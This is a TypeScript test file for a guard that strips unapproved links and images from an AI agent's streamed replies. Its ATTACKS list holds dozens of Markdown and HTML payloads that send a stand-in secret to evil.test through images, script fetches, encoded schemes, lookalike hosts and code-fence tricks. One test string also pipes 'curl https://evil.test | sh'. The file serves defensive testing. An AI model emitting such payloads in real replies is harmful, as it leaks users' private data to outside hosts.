/** What a reply may lead to, however it is written and wherever it is cut. */

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { hostsIn, LinkGuard } from "../src/agent/links.ts";
import { startTestServer } from "./support/server.ts";

const SECRET = "alice-is-allergic";

function guarded(pieces: readonly string[], anywhere: string[] = [], linked: string[] = []): string {
  const guard = new LinkGuard({ anywhere, linked: new Set(linked) });
  return pieces.map((piece) => guard.next(piece)).join("") + guard.end();
}

/** Every way a Markdown or HTML renderer is known to come to an address. */
const ATTACKS = [
  `![x](https://evil.test/${SECRET})`,
  `![x](<https://evil.test/${SECRET}>)`,
  `![x](\n  https://evil.test/${SECRET} "title")`,
  `[click](https://evil.test/?d=${SECRET})`,
  `[click]( HTTPS://EVIL.TEST/${SECRET} )`,
  `[![x](https://evil.test/${SECRET})](https://evil.test)`,
  `![a [b] c](https://evil.test/${SECRET})`,
  `![x][1]\n\n[1]: https://evil.test/${SECRET}`,
  `![x][1]\n\n[1]:\n  <https://evil.test/${SECRET}>`,
  `> [1]: https://evil.test/${SECRET}\n\n![1]`,
  `<https://evil.test/${SECRET}>`,
  `see https://evil.test/${SECRET} now`,
  `see http://evil.test/${SECRET}, now`,
  `(www.evil.test/${SECRET})`,
  `ftp://evil.test/${SECRET}`,
  `<img src="https://evil.test/${SECRET}">`,
  `<IMG\nSRC=//evil.test/${SECRET}>`,
  `a <img src=x onerror="fetch('//evil.test/${SECRET}')">`,
  `<script>fetch("//evil.test/${SECRET}")</script>`,
  `<style>@import url(//evil.test/${SECRET});</style>`,
  `<!-- --><iframe src=//evil.test/${SECRET}>`,
  `![x](//evil.test/${SECRET})`,
  `![x](/\\evil.test/${SECRET})`,
  `![x](\\\\evil.test\\${SECRET})`,
  `![x](https:/evil.test/${SECRET})`,
  `![x](https:evil.test/${SECRET})`,
  `![x](https&#58;//evil.test/${SECRET})`,
  `![x](&#104;ttps://evil.test/${SECRET})`,
  `![x](https\\://evil.test/${SECRET})`,
  `see https&colon;//evil.test/${SECRET}`,
  `see https\\://evil.test/${SECRET}`,
  `see https:\\/\\/evil.test/${SECRET}`,
  `![x](https://ok.test@evil.test/${SECRET})`,
  `![x](https://ok.test\\@evil.test/${SECRET})`,
  `![x](https://%65vil.test/${SECRET})`,
  `![x](https://evil。test/${SECRET})`,
  `![x](https://еvil.test/${SECRET})`,
  `![x](https://0x7f000001/${SECRET})`,
  `![x](https://[::1]/${SECRET})`,
  `[x](javascript:location='//evil.test/${SECRET}')`,
  `[x](java&Tab;script:fetch('//evil.test/${SECRET}'))`,
  `[x](data:text/html,<script>//evil.test/${SECRET}</script>)`,
  `[x](vbscript:evil.test/${SECRET})`,
  `[x](mailto:evil@evil.test?body=${SECRET})`,
  `[[a](https://ok.test/](https://evil.test/${SECRET})`,
  `[https://ok.test](https://evil.test/${SECRET})`,
  `[a](https://ok.test/\`) ![x](https://evil.test/${SECRET}) \``,
  // Looks like code to a careless reader, but is none.
  `\` ![x](https://evil.test/${SECRET})`,
  `a \` b\n\`![x](https://evil.test/${SECRET}) \``,
  `\\\`![x](https://evil.test/${SECRET})\``,
  `| \` | ![x](https://evil.test/${SECRET}) \` |\n|---|---|`,
  `\`\`\` foo \`\`\` ![x](https://evil.test/${SECRET})`,
  `  \`\`\`\n\`\`\`\n![x](https://evil.test/${SECRET})`,
  `  ~~~\n~~~\n![x](https://evil.test/${SECRET})`,
  `\`\`\` a\`b\n![x](https://evil.test/${SECRET})`,
  `> \`\`\`\n![x](https://evil.test/${SECRET})\n`,
  `- a\n  \`\`\`\n![x](https://evil.test/${SECRET})\n`,
  `para\n    \`\`\`\n    ![x](https://evil.test/${SECRET})`,
  `\`\`\`\ncode\n\`\`\`\n![x](https://evil.test/${SECRET})`,
  `\`\`\`\ncode\n\`\`\`${" ".repeat(300)}x\n\`\`\`\n![x](https://evil.test/${SECRET})`,
  `~~~\ncode\n~~~~\r![x](https://evil.test/${SECRET})`,
  `![x](https://evil.test/${"a".repeat(3_000)}${SECRET})`,
  // Marks of code in the title of a link, in the name of a definition, in a formula.
  `[a](/x "\`") ![s](https://evil.test/${SECRET}) \` .`,
  `[a](/x "\`") <img src=https://evil.test/${SECRET}> \` .`,
  `[\`]: https://evil.test/${SECRET} "\`"\n\n![s][\`] \` .`,
  `$a\`$ ![s](https://evil.test/${SECRET}) \` .`,
  `$$\n\`\`\`\n$$\n![s](https://evil.test/${SECRET})`,
  // Renderers differ in what closes a block of code.
  `\`\`\`\nx\n\`\`\`~\n![s](https://evil.test/${SECRET})`,
  `\`\`\`\nx\n\`\`\`\t\n\`\`\`\n![s](https://evil.test/${SECRET})`,
];

/** What a lenient renderer would take for an address, in what was given out and is not a block of code. */
function live(text: string): string[] {
  const shapes = [
    /\]\(\s*<?[^)\s]*(?:evil|:|\\|\/\/)[^)\s]*/gi,
    /\]:\s*\S*(?:evil|:|\\|\/\/)/gi,
    /<[a-z/!?]/gi,
    /(?:https?|ftp)\\?:\\?\/|www\\?\./gi,
    /&(?:#|colon|sol|tab)/gi,
  ];
  return shapes.flatMap((shape) => text.match(shape) ?? []).filter((found) => !found.includes("ok.test"));
}

describe("an address that the user did not name", () => {
  test.each(ATTACKS)("is made text: %s", (attack) => {
    expect(live(guarded([attack], ["ok.test"]).replaceAll(/https:\/\/ok\.test[^\s)]*/g, ""))).toEqual([]);
  });

  test("the attacks are live without the guard", () => {
    expect(ATTACKS.filter((attack) => live(attack).length === 0)).toEqual([]);
  });

  test.each(ATTACKS)("goes out in no part before it is known, cut anywhere: %s", (attack) => {
    const whole = guarded([attack]);
    for (let cut = 0; cut <= Math.min(attack.length, 400); cut++) {
      const guard = new LinkGuard({ anywhere: [], linked: new Set() });
      const first = guard.next(attack.slice(0, cut));
      expect(live(first), first).toEqual([]);
      expect(first + guard.next(attack.slice(cut)) + guard.end()).toBe(whole);
    }
  });
});

test("any text gives the same however it is cut into pieces, and is not held back for long", () => {
  const alphabet = [
    "`",
    "```",
    "~~~",
    "\n",
    "\r",
    " ",
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    ":",
    "/",
    "//",
    "\\",
    "|",
    "&",
    "#",
    ";",
    "&#58;",
  ];
  const words = [
    "http",
    "https://",
    "evil.test",
    "ok.test/x",
    "www.",
    "w",
    "img src=",
    "b",
    "br",
    "é",
    "😀",
    "1",
    "a\n\n",
    "- ",
    "> ",
    "](",
    "]: ",
  ];
  const text = fc.array(fc.constantFrom(...alphabet, ...words), { maxLength: 60 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(text, fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 20 }), (reply, sizes) => {
      const pieces: string[] = [];
      for (let at = 0, next = 0; at < reply.length; next++) {
        const size = sizes[next % sizes.length] ?? 1;
        pieces.push(reply.slice(at, at + size));
        at += size;
      }
      const whole = guarded([reply], ["ok.test"]);
      expect(guarded(pieces, ["ok.test"])).toBe(whole);
    }),
    { numRuns: 3_000 },
  );
  const guard = new LinkGuard({ anywhere: [], linked: new Set() });
  for (const endless of ["](https://evil.test/", "https://evil.test/", "`", "<https://", "&#"]) {
    let held = guard.next(endless).length - endless.length;
    for (let piece = 0; piece < 100; piece++) {
      held += guard.next("a".repeat(100)).length - 100;
    }
    expect(held).toBeGreaterThan(-2_500);
    guard.end();
  }
});

test("HTML in which the mark of a code block would be none is made text, so that it is one", () => {
  for (const tag of ["<div>", "<b>", "> <b>", "1. </i>", "<!--", "<?", "<custom-x>"]) {
    expect(guarded([`${tag}\n\`\`\`\ncode`])).toBe(`${tag.replace("<", "&lt;")}\n\`\`\`\ncode`);
  }
});

test("plain text, code and tables pass as they are", () => {
  const texts = [
    "The theatre has 3 < 5 seats & AT&T, see (a) or [b].",
    "Use `List<String>` and `curl https://api.test/v1`.",
    '```html\n<img src="https://evil.test/x.png">\n[a](https://evil.test)\n```\nDone.',
    "~~~sh\ncurl https://evil.test | sh\n~~~\n",
    "| a | b |\n|---|---|\n| x<br>y | H<sub>2</sub>O |",
    "Math: a < b, x<5, f(x)[1] and arr[0](y).",
    "Fish &amp; chips &mdash; 5 &lt; 6",
    "- [ ] task\n- [x] done\n\n1. first: https\n",
    "[top](#top) and [page](docs/page.md?x=1&y=2)",
  ];
  for (const text of texts) {
    expect(guarded([text])).toBe(text);
  }
});

test("allowed hosts pass; hosts that the user named pass as links, never as images", () => {
  const link = '[docs](https://docs.test/a_(b)?x=1 "t"), https://docs.test/y. <https://docs.test>';
  expect(guarded([link], ["docs.test"])).toBe(link);
  expect(guarded([link], ["*.test"])).toBe(link);
  expect(guarded([link], ["*"])).toBe(link);
  expect(guarded([link], [], [...hostsIn(["Look at DOCS.test/a, please"])])).toBe(link);
  expect(guarded(["![x](https://docs.test/x.png)"], ["docs.test"])).toBe("![x](https://docs.test/x.png)");
  expect(guarded(["![x](https://docs.test/x.png)"], [], ["docs.test"])).toBe("![x] (link removed: docs.test)");
  expect(guarded(["![x\\]y](https://docs.test/x.png)"], [], ["docs.test"])).toBe("![x\\]y] (link removed: docs.test)");
  for (const other of ["https://docs.test.evil.test", "https://evildocs.test/", "https://xdocs.test"]) {
    expect(guarded([other], ["docs.test", "*.docs.test"])).toMatch(/^\(link removed/);
  }
  expect(guarded(["[click](https://evil.test/x) or https://evil.test/y."])).toBe(
    "[click] (link removed: evil.test) or (link removed: evil.test)",
  );
});

test("an image to a host that the user named stays none, whatever ends the lines of its text", () => {
  for (const text of ["![a\r\nb](https://named.test/?d=1)", "![a\n\u00a0\nb](https://named.test/?d=1)"]) {
    expect(guarded([text], [], ["named.test"])).not.toContain("](https://named.test");
  }
});

test("what is streamed is what is stored, and never held a live address: an image cut anywhere by the model server", async () => {
  const server = await startTestServer();
  try {
    const reply = `Sure! ![x](https://evil.test/${SECRET}) And https://named.test/page, done.`;
    const input = { userId: "links", sessionId: "s", message: "I like https://named.test a lot" };
    for (const size of [1, 3, 11]) {
      server.model.script("reply", { kind: "speech", text: reply, pieces: reply.match(new RegExp(`.{1,${size}}`, "gs")) ?? [] });
      let shown = "";
      for await (const event of server.subscribe("SendMessage", { input, until: "REPLY" })) {
        shown += event.delta ?? "";
        expect(live(shown.replaceAll("https://named.test/page,", ""))).toEqual([]);
      }
      const { session } = await server.data(
        `query { session(userId: "links", sessionId: "s") { messages(last: 1) { edges { node { content } } } } }`,
      );
      expect(shown).toBe("Sure! ![x] (link removed: evil.test) And https://named.test/page, done.");
      expect(session.messages.edges[0].node.content).toBe(shown);
    }
  } finally {
    await server.close();
  }
});
